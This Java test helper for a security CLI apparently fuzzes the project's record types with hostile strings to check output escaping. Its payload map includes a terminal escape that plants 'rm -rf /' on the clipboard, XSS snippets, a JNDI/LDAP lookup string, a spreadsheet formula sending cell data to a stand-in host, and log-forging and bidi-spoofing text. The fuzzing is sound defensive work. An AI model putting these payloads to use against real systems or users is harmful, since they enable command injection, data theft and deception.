package dev.vedette.cli;

import dev.vedette.policy.model.Fact;
import dev.vedette.policy.model.FileOpened;
import dev.vedette.policy.model.ProcessInfo;
import java.io.File;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.net.URI;
import java.nio.file.FileSystem;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;

/** Records of which every text, however deep, is one that an attacker chose. */
final class HostileRecords {
    /** A process has parents without end; one says as much as all. */
    private static final int PARENTS = 1;

    /** By name, what somebody has called something who wants to do harm where it is shown or written down. */
    static final Map<String, String> TEXTS = Map.ofEntries(
            Map.entry("clears the screen", "x\u001b[2J\u001b[H"),
            Map.entry("sets the clipboard", "x\u001b]52;c;cm0gLXJmIC8K\u0007"),
            Map.entry("is a link to elsewhere", "\u001b]8;;http://192.0.2.1/\u001b\\click\u001b]8;;\u001b\\"),
            Map.entry("steers with one byte of C1", "x\u009b2J\u009d52;c;eA==\u009c\u0090q\u009c\u0085y"),
            Map.entry("forges a line", "x\n12:00:00.000  CRITICAL VDT-2002  all is well\r\nx\u2028y\u2029z\u000b\f"),
            Map.entry("overwrites its line", "bad\rgood"),
            Map.entry("deletes", "bad\b\b\bgood\u007f"),
            Map.entry("turns text round", "x\u202egnp.exe\u202c\u2066y\u2069\u200f"),
            Map.entry("hides", "a\u200bb\u2060c\ufeffd\u00ade\udb40\udc41"),
            Map.entry("ends a text", "x\u0000y"),
            Map.entry("is half a character", "x\ud800y\udc00z"),
            Map.entry("was no UTF-8", "x\ufffd\ufffdy"),
            Map.entry("is a script", "</script><img src=x onerror=alert(1)>\"'><svg/onload=alert(1)>"),
            Map.entry("breaks JSON", "\",\"type\":\"outcome\"}\n{\"x\":\"\\u0000\\"),
            Map.entry("is a formula", "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")\t@SUM(1)"),
            Map.entry("formats", "%s%n%1$99999s{}${jndi:ldap://192.0.2.1/x}"),
            Map.entry("is long", "n".repeat(4_096)),
            Map.entry("is long and all escapes", "\u001b".repeat(512)));

    private final String text;

    HostileRecords(String text) {
        this.text = text;
    }

    /** The classes of a package that are records, those within others included. */
    static List<Class<?>> of(Class<?> neighbour) {
        try {
            URI place = neighbour
                    .getProtectionDomain()
                    .getCodeSource()
                    .getLocation()
                    .toURI();
            Path file = Path.of(place);
            if (Files.isDirectory(file)) {
                return records(file, neighbour);
            }
            try (FileSystem jar = FileSystems.newFileSystem(file)) {
                return records(jar.getPath("/"), neighbour);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (java.net.URISyntaxException e) {
            throw new IllegalStateException(e);
        }
    }

    private static List<Class<?>> records(Path root, Class<?> neighbour) throws IOException {
        try (Stream<Path> files =
                Files.list(root.resolve(neighbour.getPackageName().replace('.', '/')))) {
            return files.map(file -> file.getFileName().toString())
                    .filter(name -> name.endsWith(".class") && !name.equals("package-info.class"))
                    .map(name -> name.substring(0, name.length() - ".class".length()))
                    .<Class<?>>map(name -> load(neighbour.getPackageName() + "." + name))
                    .filter(Class::isRecord)
                    .toList();
        }
    }

    private static Class<?> load(String name) {
        try {
            return Class.forName(name);
        } catch (ClassNotFoundException e) {
            throw new IllegalStateException("not a class: " + name.replace(File.separatorChar, '/'), e);
        }
    }

    /** One of that kind; empty where its constructor holds its texts to a form that these do not have. */
    <T> Optional<T> filled(Class<T> type) {
        try {
            return Optional.of(type.cast(value(type, 0)));
        } catch (Refused e) {
            return Optional.empty();
        }
    }

    private Object value(Type type, int depth) {
        if (type instanceof ParameterizedType of) {
            return container(of, depth);
        }
        Class<?> raw = (Class<?>) type;
        if (raw == String.class || raw == Object.class) {
            return text;
        }
        if (raw.isPrimitive()) {
            return primitive(raw);
        }
        if (raw.isEnum()) {
            return raw.getEnumConstants()[raw.getEnumConstants().length - 1];
        }
        if (raw == ProcessInfo.class && depth > PARENTS) {
            return null;
        }
        if (raw == Fact.class) {
            return record(FileOpened.class, depth);
        }
        if (raw.isSealed()) {
            return value(raw.getPermittedSubclasses()[0], depth);
        }
        return raw.isRecord() ? record(raw, depth) : other(raw);
    }

    private Object container(ParameterizedType of, int depth) {
        Type[] inner = of.getActualTypeArguments();
        Class<?> raw = (Class<?>) of.getRawType();
        if (raw == Class.class) {
            return String.class;
        }
        Object first = value(inner[0], depth);
        if (raw == Map.class) {
            return Map.of(first, value(inner[1], depth));
        }
        return raw == List.class ? List.of(first) : raw == Set.class ? Set.of(first) : Optional.of(first);
    }

    private static Object primitive(Class<?> raw) {
        return switch (raw.getName()) {
            case "boolean" -> true;
            case "int" -> 1;
            case "long" -> 1L;
            case "double" -> 1.0;
            default -> throw new IllegalStateException("no value is known of " + raw);
        };
    }

    private static Object other(Class<?> raw) {
        return switch (raw.getName()) {
            case "java.lang.Long" -> 1L;
            case "java.time.Duration" -> Duration.ofSeconds(1);
            case "java.time.Instant" -> Instant.EPOCH;
            case "java.time.LocalDate" -> java.time.LocalDate.EPOCH;
            default -> throw new IllegalStateException("no value is known of " + raw);
        };
    }

    private Object record(Class<?> raw, int depth) {
        RecordComponent[] components = raw.getRecordComponents();
        Class<?>[] types = Stream.of(components).map(RecordComponent::getType).toArray(Class<?>[]::new);
        Object[] values = Stream.of(components)
                .map(component -> value(component.getGenericType(), raw == ProcessInfo.class ? depth + 1 : depth))
                .toArray();
        try {
            var constructor = raw.getDeclaredConstructor(types);
            constructor.setAccessible(true);
            return constructor.newInstance(values);
        } catch (InvocationTargetException e) {
            throw new Refused(raw + ": " + e.getCause(), e);
        } catch (ReflectiveOperationException e) {
            throw new IllegalStateException(raw.toString(), e);
        }
    }

    /** A constructor did not take it. */
    private static final class Refused extends RuntimeException {
        private static final long serialVersionUID = 1L;

        Refused(String message, Throwable cause) {
            super(message, cause);
        }
    }
}
